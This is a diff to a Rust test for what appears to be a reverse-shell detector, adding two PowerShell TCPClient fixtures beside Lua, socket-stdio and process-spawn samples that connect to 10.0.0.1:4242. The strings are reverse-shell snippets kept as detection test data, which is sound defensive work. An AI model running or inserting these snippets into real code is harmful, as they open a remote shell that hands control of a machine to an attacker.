@@ -201,6 +201,8 @@ fn code_shells_need_a_socket_and_a_shell_in_code_not_in_stack_frames() {
             ("lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"", "shell.reverse.lua"),
             ("Socket.connect(\"10.0.0.1\", 4242).then((socket) { Process.start('/bin/sh', []) });", "shell.code.socket-shell"),
             ("si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)sock;", "shell.code.socket-stdio"),
+            ("$c = New-Object -TypeName ('System.Net.Sockets.TCPClient')('10.0.0.1',4242);$s = $c.GetStream()", "shell.reverse.powershell"),
+            ("$c=[System.Net.Sockets.TcpClient]::new('10.0.0.1',4242);$s=$c.GetStream();iex $x", "shell.reverse.powershell"),
             ("p = Process.new(m.rstrip, output: Process::Redirect::Pipe, shell: true)", "shell.spawn.code"),
         ],
         &[],
